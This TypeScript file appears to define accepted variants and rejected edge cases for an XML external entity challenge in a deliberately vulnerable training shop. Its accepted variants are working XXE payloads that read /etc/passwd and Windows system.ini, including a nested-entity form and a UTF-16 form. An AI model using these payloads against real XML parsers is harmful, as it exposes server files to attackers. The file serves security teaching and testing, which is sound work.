import { defineWays } from '#game/define.ts'
import { uploadFile, uploadXmlOrder } from '#game/visitor/requests.ts'

export default defineWays({
  otherWays: {
    'a path without a scheme': (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "/etc/passwd">', '&e;'),
    'a path from where the shop lies': (visitor) =>
      uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "../etc/passwd">', '&e;'),
    'a file of another system': (visitor) =>
      uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///C:/Windows/system.ini">', '&e;'),
    'an entity that declares another': (visitor) =>
      uploadXmlOrder(visitor, '<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY e "&f;">', '<a>&e;</a>'),
    'another encoding': (visitor) =>
      uploadFile(
        visitor,
        'order.xml',
        Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', 'utf16le'),
      ),
  },
  mishaps: {
    'such a line, written by hand': [
      410,
      (visitor) => uploadFile(visitor, 'order.xml', '<order>root:x:0:0:root:/root:/bin/bash</order>'),
    ],
    'a file that tells nothing': [
      410,
      (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///etc/hostname">', '&e;'),
    ],
    'a file that is not there': [
      410,
      (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///etc/passwort">', '&e;'),
    ],
    'a declaration that nothing refers to': [
      410,
      (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///etc/passwd">', '12'),
    ],
    'a broken document': [
      410,
      (visitor) => uploadXmlOrder(visitor, '<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;</order><order>'),
    ],
  },
  companions: ['deprecatedInterfaceChallenge'],
})
